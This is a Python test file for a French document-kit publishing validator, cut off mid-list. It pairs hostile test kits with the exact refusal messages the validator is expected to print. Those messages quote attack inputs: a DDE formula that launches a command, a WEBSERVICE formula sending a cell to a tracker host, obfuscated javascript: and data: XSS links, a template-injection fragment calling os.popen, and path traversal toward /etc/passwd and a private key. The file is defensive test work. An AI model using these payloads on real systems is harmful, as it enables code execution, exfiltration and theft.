"""Hostile and broken kits (tests/hostile/<case>/): each is refused with its exact French message, or built inert.

Refused kits are checked together by one run of scripts/check.py; the kits that must build (their content made
harmless) are built together by one run of scripts/build.py. Nothing may be written outside the output folder,
no template may run, and no output may hold a traceback.
"""
from __future__ import annotations

import re
from html.parser import HTMLParser
from pathlib import Path

import pytest

from hostile_kits import CANARIES, HOSTILE, make_tree, run_script, snapshot
from kitcore import parts, reserved

TOOLS = next(p for p in parts.PARTS if p.downloads)  # the part whose page lists the downloads

# Each refused case: the exact lines `make check` prints about that kit (paths from kits/<case>).
# An empty list means the kit is accepted as it is.
CHECK_CASES: list[tuple[str, list[str]]] = [
    # Round two (issue #12), downloads: office documents and PDFs by their structure, CSV formulas, CSS in SVG.
    ('office-programme', [
        '/fichiers/guide.docx : Le fichier « fichiers/guide.docx » est refusé : le document contient un programme (« setup.exe ») ; enregistrez-le de nouveau sans macro, objet incorporé ni mot de passe (ou exportez-le en PDF).',
    ]),
    ('office-programme-deguise', [
        '/fichiers/guide.docx : Le fichier « fichiers/guide.docx » est refusé : le document contient un programme (« image1.png ») ; enregistrez-le de nouveau sans macro, objet incorporé ni mot de passe (ou exportez-le en PDF).',
    ]),
    ('office-macro-vba', [
        '/fichiers/guide.docx : Le fichier « fichiers/guide.docx » est refusé : le document contient des macros VBA (« vbaProject.bin ») ; enregistrez-le de nouveau sans macro, objet incorporé ni mot de passe (ou exportez-le en PDF).',
    ]),
    ('office-type-macros', [
        "/fichiers/guide.docx : Le fichier « fichiers/guide.docx » est refusé : le document est d'un type à macros (il s'ouvrirait avec ses macros actives) ; enregistrez-le de nouveau sans macro, objet incorporé ni mot de passe (ou exportez-le en PDF).",
    ]),
    ('office-modele-distant', [
        '/fichiers/guide.docx : Le fichier « fichiers/guide.docx » est refusé : le document charge un élément extérieur à son ouverture (relation « attachedTemplate » vers « http://pisteur.example/modele.dotm ») ; enregistrez-le de nouveau sans macro, objet incorporé ni mot de passe (ou exportez-le en PDF).',
    ]),
    ('office-lien-fichier', [
        "/fichiers/guide.docx : Le fichier « fichiers/guide.docx » est refusé : le document contient un lien « file://serveur/partage/x.exe », d'un type refusé (seuls http://, https:// et mailto: sont acceptés) ; enregistrez-le de nouveau sans macro, objet incorporé ni mot de passe (ou exportez-le en PDF).",
    ]),
    ('office-ole', [
        '/fichiers/tableau.xlsx : Le fichier « fichiers/tableau.xlsx » est refusé : le document contient un objet OLE incorporé (« oleObject1.bin ») ; enregistrez-le de nouveau sans macro, objet incorporé ni mot de passe (ou exportez-le en PDF).',
    ]),
    ('csv-guillemet-ouvert', [
        "/fichiers/grille.csv, ligne 2 : Le fichier « fichiers/grille.csv » est refusé : une cellule qui commence à cette ligne dépasse 131\u202f072 caractères : un guillemet « \" » ouvert n'y est sans doute jamais fermé ; fermez-le, ou doublez-le (« \"\" ») s'il fait partie du texte.",
    ]),
    ('office-encodage-inconnu', [
        "/fichiers/guide.docx : Le fichier « fichiers/guide.docx » est refusé : le document est illisible (archive endommagée, chiffrée ou compressée d'une manière inconnue) ; enregistrez-le de nouveau sans macro, objet incorporé ni mot de passe (ou exportez-le en PDF).",
    ]),
    ('office-trop-d-elements', [
        "/fichiers/guide.docx : Le fichier « fichiers/guide.docx » est refusé : le document contient 2003 éléments, au-delà des 2000 qu'un document ordinaire ne dépasse jamais ; enregistrez-le de nouveau sans macro, objet incorporé ni mot de passe (ou exportez-le en PDF).",
    ]),
    ('office-champ-dde', [
        '/fichiers/guide.docx : Le fichier « fichiers/guide.docx » est refusé : le document contient un champ « DDEAUTO », qui lance un programme ou charge un contenu extérieur ; enregistrez-le de nouveau sans macro, objet incorporé ni mot de passe (ou exportez-le en PDF).',
    ]),
    ('office-formule-dde', [
        "/fichiers/tableau.xlsx : Le fichier « fichiers/tableau.xlsx » est refusé : le document contient une formule qui appelle un autre programme ou une adresse (« cmd|' /C calc'!A0 ») ; enregistrez-le de nouveau sans macro, objet incorporé ni mot de passe (ou exportez-le en PDF).",
    ]),
    ('ods-macro-basic', [
        '/fichiers/tableau.ods : Le fichier « fichiers/tableau.ods » est refusé : le document contient des macros (dossier « Basic ») ; enregistrez-le de nouveau sans macro, objet incorporé ni mot de passe (ou exportez-le en PDF).',
    ]),
    ('ods-macro-evenement', [
        '/fichiers/tableau.ods : Le fichier « fichiers/tableau.ods » est refusé : le document contient une macro liée à un événement ; enregistrez-le de nouveau sans macro, objet incorporé ni mot de passe (ou exportez-le en PDF).',
    ]),
    ('ods-formule-webservice', [
        '/fichiers/tableau.ods : Le fichier « fichiers/tableau.ods » est refusé : le document contient une formule qui appelle un autre programme ou une adresse (« of:=WEBSERVICE("https://pisteur.example/?"&[.A2]) ») ; enregistrez-le de nouveau sans macro, objet incorporé ni mot de passe (ou exportez-le en PDF).',
    ]),
    ('odt-dde', [
        "/fichiers/texte.odt : Le fichier « fichiers/texte.odt » est refusé : le document contient une liaison DDE (données d'un autre programme) ; enregistrez-le de nouveau sans macro, objet incorporé ni mot de passe (ou exportez-le en PDF).",
    ]),
    ('odt-image-distante', [
        '/fichiers/texte.odt : Le fichier « fichiers/texte.odt » est refusé : le document charge un élément extérieur à son ouverture (« http://pisteur.example/pixel.png ») ; enregistrez-le de nouveau sans macro, objet incorporé ni mot de passe (ou exportez-le en PDF).',
    ]),
    ('odt-chiffre', [
        '/fichiers/texte.odt : Le fichier « fichiers/texte.odt » est refusé : le document est chiffré (protégé par un mot de passe) : la vérification ne peut pas en lire le contenu ; enregistrez-le de nouveau sans macro, objet incorporé ni mot de passe (ou exportez-le en PDF).',
    ]),
    ('pdf-javascript', [
        "/fichiers/guide.pdf : Le fichier « fichiers/guide.pdf » est refusé : le PDF contient du JavaScript (« /JavaScript ») ; exportez-le de nouveau en PDF simple (« Imprimer » puis « Enregistrer au format PDF », ou l'export PDF de votre traitement de texte).",
    ]),
    ('pdf-nom-code', [
        "/fichiers/guide.pdf : Le fichier « fichiers/guide.pdf » est refusé : le PDF contient du JavaScript (« /JavaScript ») ; exportez-le de nouveau en PDF simple (« Imprimer » puis « Enregistrer au format PDF », ou l'export PDF de votre traitement de texte).",
    ]),
    ('pdf-lancement', [
        "/fichiers/guide.pdf : Le fichier « fichiers/guide.pdf » est refusé : le PDF contient une action qui lance un programme (« /Launch ») ; exportez-le de nouveau en PDF simple (« Imprimer » puis « Enregistrer au format PDF », ou l'export PDF de votre traitement de texte).",
    ]),
    ('pdf-fichier-joint', [
        "/fichiers/guide.pdf : Le fichier « fichiers/guide.pdf » est refusé : le PDF contient des fichiers incorporés (« /EmbeddedFiles ») ; exportez-le de nouveau en PDF simple (« Imprimer » puis « Enregistrer au format PDF », ou l'export PDF de votre traitement de texte).",
    ]),
    ('pdf-flux-objets', [
        "/fichiers/guide.pdf : Le fichier « fichiers/guide.pdf » est refusé : le PDF contient du JavaScript (« /JavaScript ») ; exportez-le de nouveau en PDF simple (« Imprimer » puis « Enregistrer au format PDF », ou l'export PDF de votre traitement de texte).",
    ]),
    ('pdf-chiffre', [
        "/fichiers/guide.pdf : Le fichier « fichiers/guide.pdf » est refusé : le PDF contient un chiffrement qui empêche la vérification de lire son contenu (« /Encrypt ») ; exportez-le de nouveau en PDF simple (« Imprimer » puis « Enregistrer au format PDF », ou l'export PDF de votre traitement de texte).",
    ]),
    ('csv-formule-lien', [
        "/fichiers/grille.csv, ligne 2 : Le fichier « fichiers/grille.csv » est refusé : la cellule B2 commence par « = » : un tableur l'exécuterait comme une formule, qui peut ouvrir une adresse ou lancer un programme ; retirez ce signe (ou commencez la cellule par un autre caractère, « – » plutôt que « - » par exemple), ou publiez le calcul en .ods.",
    ]),
    ('csv-formule-dde', [
        "/fichiers/grille.csv, ligne 3 : Le fichier « fichiers/grille.csv » est refusé : la cellule B3 commence par « = » : un tableur l'exécuterait comme une formule, qui peut ouvrir une adresse ou lancer un programme ; retirez ce signe (ou commencez la cellule par un autre caractère, « – » plutôt que « - » par exemple), ou publiez le calcul en .ods.",
    ]),
    ('csv-formule-arobase', [
        "/fichiers/grille.csv, ligne 2 : Le fichier « fichiers/grille.csv » est refusé : la cellule A2 commence par « @ » : un tableur l'exécuterait comme une formule, qui peut ouvrir une adresse ou lancer un programme ; retirez ce signe (ou commencez la cellule par un autre caractère, « – » plutôt que « - » par exemple), ou publiez le calcul en .ods.",
    ]),
    ('csv-formule-guillemets', [
        "/fichiers/grille.csv, ligne 2 : Le fichier « fichiers/grille.csv » est refusé : la cellule B2 commence par « = » : un tableur l'exécuterait comme une formule, qui peut ouvrir une adresse ou lancer un programme ; retirez ce signe (ou commencez la cellule par un autre caractère, « – » plutôt que « - » par exemple), ou publiez le calcul en .ods.",
    ]),
    ('csv-formule-moins', [
        "/fichiers/grille.csv, ligne 2 : Le fichier « fichiers/grille.csv » est refusé : la cellule B2 commence par « - » : un tableur l'exécuterait comme une formule, qui peut ouvrir une adresse ou lancer un programme ; retirez ce signe (ou commencez la cellule par un autre caractère, « – » plutôt que « - » par exemple), ou publiez le calcul en .ods.",
    ]),
    ('csv-formule-tabulation', [
        "/fichiers/grille.csv, ligne 2 : Le fichier « fichiers/grille.csv » est refusé : la cellule B2 commence par une tabulation ou un retour à la ligne, qu'un tableur peut lire comme le début d'une formule ; retirez-le.",
    ]),
    ('svg-css-echappe', [
        "/fichiers/dessin.svg : Le fichier « fichiers/dessin.svg » est refusé : l'image SVG appelle une ressource extérieure avec « url(…) » ; exportez le dessin en PNG, ou en « SVG simple » sans script ni style.",
    ]),
    ('svg-css-hexa', [
        "/fichiers/dessin.svg : Le fichier « fichiers/dessin.svg » est refusé : l'image SVG appelle une ressource extérieure avec « url(…) » ; exportez le dessin en PNG, ou en « SVG simple » sans script ni style.",
    ]),
    ('svg-css-image-set', [
        "/fichiers/dessin.svg : Le fichier « fichiers/dessin.svg » est refusé : l'image SVG appelle une ressource extérieure avec « image-set(…) » ; exportez le dessin en PNG, ou en « SVG simple » sans script ni style.",
    ]),
    ('svg-css-import-commentaire', [
        "/fichiers/dessin.svg : Le fichier « fichiers/dessin.svg » est refusé : l'image SVG appelle une ressource extérieure avec « @import » ; exportez le dessin en PNG, ou en « SVG simple » sans script ni style.",
    ]),
    ('svg-css-entite', [
        "/fichiers/dessin.svg : Le fichier « fichiers/dessin.svg » est refusé : l'image SVG appelle une ressource extérieure avec « url(…) » ; exportez le dessin en PNG, ou en « SVG simple » sans script ni style.",
    ]),
    # Round two (issue #12): pages a kit file could replace, front matter, control bytes, dates, links hidden in
    # containers, inputs that made a scan quadratic.
    ('collision-accents', [
        "/fichiers/été.txt : Le fichier « fichiers/été.txt » est refusé : son nom ne diffère de « fichiers/ÉTÉ.txt » que par les majuscules ou la forme des accents : une fois le centre décompressé sous Windows ou macOS, l'un remplacerait l'autre ; renommez l'un des deux.",
    ]),
    ('collision-casse', [
        "/fichiers/grille.csv : Le fichier « fichiers/grille.csv » est refusé : son nom ne diffère de « fichiers/Grille.csv » que par les majuscules ou la forme des accents : une fois le centre décompressé sous Windows ou macOS, l'un remplacerait l'autre ; renommez l'un des deux.",
    ]),
    ('collision-ods', [
        '/fichiers/grille.ods : Le fichier « fichiers/grille.ods » est refusé : une fois publié, il prendrait la place de la version tableur (.ods) que le site produit à partir de « fichiers/grille.csv » ; renommez-le (par exemple « fichiers/grille-fichier.ods »).',
    ]),
    ('collision-unicode', [
        "/fichiers/ﬁche.txt : Le fichier « fichiers/ﬁche.txt » est refusé : son nom ne diffère de « fichiers/fiche.txt » que par les majuscules ou la forme des accents : une fois le centre décompressé sous Windows ou macOS, l'un remplacerait l'autre ; renommez l'un des deux.",
    ]),
    ('date-ancienne', [
        '/kit.yml, ligne 9 : « mise_a_jour » vaut « 1970-01-01 », hors des dates possibles (du 1er janvier 1980 au 31 décembre 2107, ce que les archives zip savent enregistrer) ; indiquez la date de la dernière mise à jour du kit.',
    ]),
    ('date-lointaine', [
        '/kit.yml, ligne 9 : « mise_a_jour » vaut « 9999-12-31 », hors des dates possibles (du 1er janvier 1980 au 31 décembre 2107, ce que les archives zip savent enregistrer) ; indiquez la date de la dernière mise à jour du kit.',
    ]),
    ('fichiers-html-majuscules', [
        "/fichiers/Page.HTM : Le fichier « fichiers/Page.HTM » est refusé : un fichier « .HTM » serait publié comme une page du site, avec ce qu'il contient (en-tête, script), au lieu d'être proposé au téléchargement ; mettez ce texte dans l'une des quatre parties du kit, ou enregistrez-le en .pdf ou en .txt.",
    ]),
    ('fichiers-index-md', [
        "/fichiers/index.md : Le fichier « fichiers/index.md » est refusé : un fichier « .md » serait publié comme une page du site, avec ce qu'il contient (en-tête, script), au lieu d'être proposé au téléchargement ; mettez ce texte dans l'une des quatre parties du kit, ou enregistrez-le en .pdf ou en .txt.",
    ]),
    ('fichiers-markdown', [
        "/fichiers/notes.markdown : Le fichier « fichiers/notes.markdown » est refusé : un fichier « .markdown » serait publié comme une page du site, avec ce qu'il contient (en-tête, script), au lieu d'être proposé au téléchargement ; mettez ce texte dans l'une des quatre parties du kit, ou enregistrez-le en .pdf ou en .txt.",
    ]),
    ('gabarit-front-matter', [
        "/cadre-de-reference.md, ligne 1 : La partie commence par un en-tête de métadonnées (« --- »), qui n'est pas accepté : les métadonnées du kit se trouvent dans kit.yml ; retirez ces lignes, du premier « --- » jusqu'à celui qui les ferme.",
        "/cadre-de-reference.md, ligne 8 : Avertissement — « {{ lipsum.__globals__['os'].popen('id -u » ressemble à une instruction de gabarit qui n'est pas reconnue : elle s'affichera telle quelle. Seuls {{ chiffre('…') }} et {{ source('…') }} sont interprétés.",
    ]),
    ('markdown-code-echappe', [
        '/methodologie.md, ligne 3 : Le lien « javascript:alert(1) » utilise une adresse « javascript: », refusée : seules les adresses http://, https:// et mailto: sont acceptées.',
    ]),
    ('markdown-definition-conteneurs', [
        "/methodologie.md, ligne 3 : Le lien « //pisteur.example/citation » n'indique pas de protocole ; écrivez l'adresse complète, en commençant par https://.",
        '/methodologie.md, ligne 5 : Le lien « /etc/passwd » est un chemin absolu, refusé : un kit ne peut citer que ses propres fichiers, avec un chemin relatif comme « fichiers/grille.csv ».',
        '/methodologie.md, ligne 8 : Le lien « javascript:alert(1) » utilise une adresse « javascript: », refusée : seules les adresses http://, https:// et mailto: sont acceptées.',
        "/methodologie.md, ligne 10 : Le lien « //pisteur.example/ligne-suivante » n'indique pas de protocole ; écrivez l'adresse complète, en commençant par https://.",
        "/methodologie.md, ligne 15 : L'image « https://pisteur.example/pixel.png » est sur un autre site : les centres doivent fonctionner hors ligne. Enregistrez l'image dans le dossier fichiers/ du kit et écrivez « fichiers/nom-de-l-image.png ».",
    ]),
    ('markdown-lien-multiligne', [
        "/methodologie.md, ligne 3 : Le lien « //pisteur.example/multi » n'indique pas de protocole ; écrivez l'adresse complète, en commençant par https://.",
        "/methodologie.md, ligne 4 : L'image « https://pisteur.example/p.png » est sur un autre site : les centres doivent fonctionner hors ligne. Enregistrez l'image dans le dossier fichiers/ du kit et écrivez « fichiers/nom-de-l-image.png ».",
    ]),
    ('partie-front-matter-espaces', [
        "/methodologie.md, ligne 3 : La partie commence par un en-tête de métadonnées (« --- »), qui n'est pas accepté : les métadonnées du kit se trouvent dans kit.yml ; retirez ces lignes, du premier « --- » jusqu'à celui qui les ferme.",
        "/methodologie.md, ligne 9 : Avertissement — « {{ 6*7 }} » ressemble à une instruction de gabarit qui n'est pas reconnue : elle s'affichera telle quelle. Seuls {{ chiffre('…') }} et {{ source('…') }} sont interprétés.",
    ]),
    ('partie-nul', [
        "/illustrations.md, ligne 3 : Le texte contient un caractère invisible interdit (U+0000), souvent venu d'un copier-coller ; supprimez-le (retapez la ligne indiquée).",
    ]),
    ('regex-balise-ouverte', [
        '/methodologie.md, ligne 3 : La partie contient 120\u202f000 « < », « [ » ou « ]( » qui ne se ferment pas sur leur ligne, à partir de celle-ci : au-delà de 100, le moteur du site mettrait des minutes à construire la page. Fermez-les (« > », « ] », « ) »), ou écrivez « &lt; » et « \\[ » pour les afficher tels quels.',
    ]),
    ('regex-gabarit-ouvert', [
    ]),
    ('regex-lien-ouvert', [
        '/methodologie.md, ligne 3 : La partie contient 100\u202f000 « < », « [ » ou « ]( » qui ne se ferment pas sur leur ligne, à partir de celle-ci : au-delà de 100, le moteur du site mettrait des minutes à construire la page. Fermez-les (« > », « ] », « ) »), ou écrivez « &lt; » et « \\[ » pour les afficher tels quels.',
        '/methodologie.md, ligne 3 : Le lien « <[x] » mène à un fichier introuvable dans le dossier du kit ; vérifiez son nom (majuscules, accents, extension).',
    ]),
    ('ressource-imprimer-md', [
        "/kit.yml, ligne 14 : Le fichier « imprimer.md » est refusé : un fichier « .md » serait publié comme une page du site, avec ce qu'il contient (en-tête, script), au lieu d'être proposé au téléchargement ; mettez ce texte dans l'une des quatre parties du kit, ou enregistrez-le en .pdf ou en .txt.",
    ]),
    ('ressource-index-md', [
        "/kit.yml, ligne 14 : Le fichier « index.md » est refusé : un fichier « .md » serait publié comme une page du site, avec ce qu'il contient (en-tête, script), au lieu d'être proposé au téléchargement ; mettez ce texte dans l'une des quatre parties du kit, ou enregistrez-le en .pdf ou en .txt.",
    ]),
    ('ressource-partie-md', [
        "/kit.yml, ligne 14 : Le fichier « methodologie.md » est refusé : un fichier « .md » serait publié comme une page du site, avec ce qu'il contient (en-tête, script), au lieu d'être proposé au téléchargement ; mettez ce texte dans l'une des quatre parties du kit, ou enregistrez-le en .pdf ou en .txt.",
    ]),
    ('yaml-bom-milieu', [
        "/kit.yml, ligne 5 : Le texte contient un caractère invisible interdit (U+FEFF), souvent venu d'un copier-coller ; supprimez-le (retapez la ligne indiquée).",
    ]),
    ('yaml-bom-utf16', [
        "/kit.yml, ligne 1 : Le texte n'est pas encodé en UTF-8 ; enregistrez le fichier en UTF-8 (dans votre éditeur : « Enregistrer sous », encodage UTF-8).",
    ]),
    ('yaml-del', [
        "/kit.yml, ligne 2 : Le texte contient un caractère invisible interdit (U+007F), souvent venu d'un copier-coller ; supprimez-le (retapez la ligne indiquée).",
    ]),
    ('yaml-nul', [
        "/kit.yml, ligne 1 : Le texte contient un caractère invisible interdit (U+0000), souvent venu d'un copier-coller ; supprimez-le (retapez la ligne indiquée).",
    ]),
    ('yaml-soh', [
        "/kit.yml, ligne 6 : Le texte contient un caractère invisible interdit (U+0001), souvent venu d'un copier-coller ; supprimez-le (retapez la ligne indiquée).",
    ]),
    ('csv-non-utf8', [
        "/fichiers/grille.csv : Le fichier « fichiers/grille.csv » est refusé : le texte n'est pas encodé en UTF-8 ; "
        "enregistrez-le en « CSV UTF-8 » (ou « Texte UTF-8 ») depuis votre tableur ou votre éditeur.",
    ]),
    ('faux-pdf', [
        "/fichiers/guide.pdf : Le fichier « fichiers/guide.pdf » est refusé : son contenu ne correspond pas à l'extension « .pdf » ; enregistrez-le de nouveau au bon format depuis votre logiciel.",
    ]),
    ('faux-png', [
        "/fichiers/image.png : Le fichier « fichiers/image.png » est refusé : son contenu ne correspond pas à l'extension « .png » ; enregistrez-le de nouveau au bon format depuis votre logiciel.",
    ]),
    ('fichier-cache', [
        "/fichiers/.htaccess : Le fichier « fichiers/.htaccess » est refusé : le nom « .htaccess » contient des caractères refusés ; n'utilisez que des lettres, des chiffres, des tirets et un point avant l'extension, sans espace ni fichier caché (par exemple « grille-2026.csv »).",
    ]),
    ('fichier-vide', [
        '/fichiers/vide.csv : Le fichier « fichiers/vide.csv » est refusé : le fichier est vide ; ajoutez son contenu ou retirez-le.',
    ]),
    ('fichiers-lien', [
        "/fichiers : Le dossier « fichiers » est refusé : c'est un lien symbolique ; placez-y les fichiers eux-mêmes.",
        '/kit.yml, ligne 12 : Le fichier « fichiers/grille.csv » est refusé : ce chemin mène hors du dossier du kit (lien symbolique) ; placez le fichier lui-même dans le kit.',
    ]),
    ('image-trop-grosse', [
        '/fichiers/photo.png : Le fichier « fichiers/photo.png » est refusé : il pèse 6,0 Mo, au-delà de la limite de 5,0 Mo pour ce type de fichier ; compressez-le ou publiez-en une version allégée.',
    ]),
    ('kit-lien', [
        ' : Un kit ne peut pas être un lien symbolique ; placez le dossier lui-même dans kits/.',
    ]),
    ('kit-trop-lourd', [
        '/fichiers : Les fichiers du kit pèsent 57,0 Mo au total, au-delà de la limite de 50,0 Mo ; allégez-les ou publiez-les ailleurs et donnez leur adresse.',
    ]),
    ('kit-yml-lien', [
        '/kit.yml : Ce fichier est un lien symbolique ; remplacez-le par le fichier lui-même.',
    ]),
    ('markdown-code-ignore', [
    ]),
    ('markdown-definition', [
        f'/{TOOLS.file}, ligne 5 : Le lien « /etc/passwd » est un chemin absolu, refusé : un kit ne peut citer que ses propres fichiers, avec un chemin relatif comme « fichiers/grille.csv ».',
        f'/{TOOLS.file}, ligne 6 : Le lien « ../../secret/cle.pem » mène hors du dossier du kit, refusé : un kit ne peut citer que ses propres fichiers (placez-les dans fichiers/) ; pour renvoyer vers un autre kit, ajoutez-le à « voir_aussi » dans kit.yml.',
    ]),
    ('markdown-image-data', [
        "/illustrations.md, ligne 3 : L'image « data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+ » utilise une adresse « data: », refusée. Enregistrez l'image dans le dossier fichiers/ du kit et écrivez « fichiers/nom-de-l-image.png ».",
        "/illustrations.md, ligne 5 : L'image « data:image/png;base64,iVBORw0KGgo= » utilise une adresse « data: », refusée. Enregistrez l'image dans le dossier fichiers/ du kit et écrivez « fichiers/nom-de-l-image.png ».",
        "/illustrations.md, ligne 7 : L'image « fichiers/../../../etc/x.png » mène hors du dossier du kit, refusé : un kit ne peut citer que ses propres fichiers (placez-les dans fichiers/) ; pour renvoyer vers un autre kit, ajoutez-le à « voir_aussi » dans kit.yml.",
    ]),
    ('markdown-image-distante', [
        "/illustrations.md, ligne 3 : L'image « https://pisteur.example/pixel.png » est sur un autre site : les centres doivent fonctionner hors ligne. Enregistrez l'image dans le dossier fichiers/ du kit et écrivez « fichiers/nom-de-l-image.png ».",
    ]),
    ('markdown-image-parent', [
        "/illustrations.md, ligne 5 : L'image « ../../autre-kit/secret.png » mène hors du dossier du kit, refusé : un kit ne peut citer que ses propres fichiers (placez-les dans fichiers/) ; pour renvoyer vers un autre kit, ajoutez-le à « voir_aussi » dans kit.yml.",
    ]),
    ('markdown-lien-absolu', [
        "/methodologie.md, ligne 3 : L'image « /etc/hosts.png » est un chemin absolu, refusé : un kit ne peut citer que ses propres fichiers, avec un chemin relatif comme « fichiers/grille.csv ».",
        '/methodologie.md, ligne 3 : Le lien « /etc/passwd » est un chemin absolu, refusé : un kit ne peut citer que ses propres fichiers, avec un chemin relatif comme « fichiers/grille.csv ».',
    ]),
    ('markdown-lien-javascript', [
        '/methodologie.md, ligne 3 : Le lien « javascript:alert(1) » utilise une adresse « javascript: », refusée : seules les adresses http://, https:// et mailto: sont acceptées.',
        '/methodologie.md, ligne 5 : Le lien « JaVaScRiPt:alert(2) » utilise une adresse « javascript: », refusée : seules les adresses http://, https:// et mailto: sont acceptées.',
        '/methodologie.md, ligne 7 : Le lien « java&#x09;script:alert(3) » utilise une adresse « javascript: », refusée : seules les adresses http://, https:// et mailto: sont acceptées.',
        '/methodologie.md, ligne 9 : Le lien « &#106;avascript:alert(4) » utilise une adresse « javascript: », refusée : seules les adresses http://, https:// et mailto: sont acceptées.',
        '/methodologie.md, ligne 11 : Le lien « data:text/html;base64,PHNjcmlwdD5hbGVydCg1KTwvc2NyaXB0Pg== » utilise une adresse « data: », refusée : seules les adresses http://, https:// et mailto: sont acceptées.',
        '/methodologie.md, ligne 13 : Le lien « vbscript:msgbox(6) » utilise une adresse « vbscript: », refusée : seules les adresses http://, https:// et mailto: sont acceptées.',
        '/methodologie.md, ligne 15 : Le lien « javascript:alert(7) » utilise une adresse « javascript: », refusée : seules les adresses http://, https:// et mailto: sont acceptées.',
    ]),
    ('markdown-non-publie', [
        "/illustrations.md, ligne 3 : L'image « notes/photo.png » mène à un fichier qui n'est pas publié : placez-le dans le dossier fichiers/ du kit (ou citez-le dans « ressources »).",
        '/illustrations.md, ligne 5 : Le lien « fichiers/absent.csv » mène à un fichier introuvable dans le dossier du kit ; vérifiez son nom (majuscules, accents, extension).',
    ]),
    ('markdown-protocole-relatif', [
        "/methodologie.md, ligne 3 : Le lien « //pisteur.example/ » n'indique pas de protocole ; écrivez l'adresse complète, en commençant par https://.",
    ]),
    ('nom-espace', [
        "/fichiers/ma grille.csv : Le fichier « fichiers/ma grille.csv » est refusé : le nom « ma grille.csv » contient des caractères refusés ; n'utilisez que des lettres, des chiffres, des tirets et un point avant l'extension, sans espace ni fichier caché (par exemple « grille-2026.csv »).",
    ]),
    ('partie-lien', [
        '/cadre-de-reference.md : Ce fichier est un lien symbolique ; remplacez-le par le fichier lui-même.',
    ]),
    ('ressource-absolue', [
        '/kit.yml, ligne 14 : Le fichier « /etc/passwd » est refusé : le chemin doit être relatif au dossier du kit, avec des « / », par exemple « fichiers/grille.csv ».',
    ]),
    ('ressource-lien-interne', [
        "/fichiers/copie.csv : Le fichier « fichiers/copie.csv » est refusé : c'est un lien symbolique ; remplacez-le par le fichier lui-même.",
        '/kit.yml, ligne 14 : Le fichier « fichiers/copie.csv » est refusé : ce chemin passe par un lien symbolique ; placez le fichier lui-même dans le dossier du kit.',
    ]),
    ('ressource-lien-sortant', [
        "/fichiers/motdepasse.csv : Le fichier « fichiers/motdepasse.csv » est refusé : c'est un lien symbolique ; remplacez-le par le fichier lui-même.",
        '/kit.yml, ligne 14 : Le fichier « fichiers/motdepasse.csv » est refusé : ce chemin mène hors du dossier du kit (lien symbolique) ; placez le fichier lui-même dans le kit.',
    ]),
    ('ressource-parent', [
        '/kit.yml, ligne 14 : Le fichier « ../ressource-absolue/kit.yml » est refusé : le chemin ne doit pas contenir « .. » : le fichier doit se trouver dans le dossier du kit.',
    ]),
    ('ressource-type-html', [
        "/kit.yml, ligne 14 : Le fichier « page.html » est refusé : un fichier « .html » serait publié comme une page du site, avec ce qu'il contient (en-tête, script), au lieu d'être proposé au téléchargement ; mettez ce texte dans l'une des quatre parties du kit, ou enregistrez-le en .pdf ou en .txt.",
    ]),
    ('ressource-windows', [
        '/kit.yml, ligne 14 : Le fichier « C:/Windows/win.ini » est refusé : le chemin doit être relatif au dossier du kit, avec des « / », par exemple « fichiers/grille.csv ».',
    ]),
    ('sans-extension', [
        "/fichiers/LISEZMOI : Le fichier « fichiers/LISEZMOI » est refusé : le type de fichier sans extension n'est pas accepté. Types acceptés : documents (.csv, .docx, .odg, .odp, .ods, .odt, .pdf, .pptx, .txt, .xlsx) et images (.gif, .jpeg, .jpg, .png, .svg, .webp).",
    ]),
    ('sous-dossier-lien', [
        "/fichiers/systeme : Le dossier « fichiers/systeme » est refusé : c'est un lien symbolique ; placez-y les fichiers eux-mêmes.",
    ]),
    ('svg-entites', [
        "/fichiers/dessin.svg : Le fichier « fichiers/dessin.svg » est refusé : l'image SVG contient une déclaration DOCTYPE ou ENTITY ; exportez le dessin en PNG, ou en « SVG simple » sans script ni style.",
    ]),
    ('svg-feuille-de-style', [
        "/fichiers/dessin.svg : Le fichier « fichiers/dessin.svg » est refusé : l'image SVG appelle une feuille de style ; exportez le dessin en PNG, ou en « SVG simple » sans script ni style.",
    ]),
    ('svg-foreignobject', [
        "/fichiers/dessin.svg : Le fichier « fichiers/dessin.svg » est refusé : l'image SVG contient l'élément « foreignObject », refusé (script, style, contenu HTML ou animation) ; exportez le dessin en PNG, ou en « SVG simple » sans script ni style.",
    ]),
    ('svg-lien-javascript', [
        "/fichiers/dessin.svg : Le fichier « fichiers/dessin.svg » est refusé : l'image SVG contient l'élément « a », refusé (script, style, contenu HTML ou animation) ; exportez le dessin en PNG, ou en « SVG simple » sans script ni style.",
    ]),
    ('svg-onload', [
        "/fichiers/dessin.svg : Le fichier « fichiers/dessin.svg » est refusé : l'image SVG contient l'attribut « onload », qui lance un script ; exportez le dessin en PNG, ou en « SVG simple » sans script ni style.",
    ]),
    ('svg-script', [
        "/fichiers/dessin.svg : Le fichier « fichiers/dessin.svg » est refusé : l'image SVG contient l'élément « script », refusé (script, style, contenu HTML ou animation) ; exportez le dessin en PNG, ou en « SVG simple » sans script ni style.",
    ]),
    ('svg-style-url', [
        "/fichiers/dessin.svg : Le fichier « fichiers/dessin.svg » est refusé : l'image SVG appelle une ressource extérieure avec « url(…) » ; exportez le dessin en PNG, ou en « SVG simple » sans script ni style.",
    ]),
    ('trop-gros', [
        '/fichiers/gros.pdf : Le fichier « fichiers/gros.pdf » est refusé : il pèse 21,0 Mo, au-delà de la limite de 20,0 Mo pour ce type de fichier ; compressez-le ou publiez-en une version allégée.',
    ]),
    ('type-doc-macros', [
        "/fichiers/vieux.doc : Le fichier « fichiers/vieux.doc » est refusé : le type de fichier « .doc » n'est pas accepté. Types acceptés : documents (.csv, .docx, .odg, .odp, .ods, .odt, .pdf, .pptx, .txt, .xlsx) et images (.gif, .jpeg, .jpg, .png, .svg, .webp).",
    ]),
    ('type-html', [
        "/fichiers/page.html : Le fichier « fichiers/page.html » est refusé : un fichier « .html » serait publié comme une page du site, avec ce qu'il contient (en-tête, script), au lieu d'être proposé au téléchargement ; mettez ce texte dans l'une des quatre parties du kit, ou enregistrez-le en .pdf ou en .txt.",
    ]),
    ('type-js', [
        "/fichiers/app.js : Le fichier « fichiers/app.js » est refusé : le type de fichier « .js » n'est pas accepté. Types acceptés : documents (.csv, .docx, .odg, .odp, .ods, .odt, .pdf, .pptx, .txt, .xlsx) et images (.gif, .jpeg, .jpg, .png, .svg, .webp).",
    ]),
    ('type-zip', [
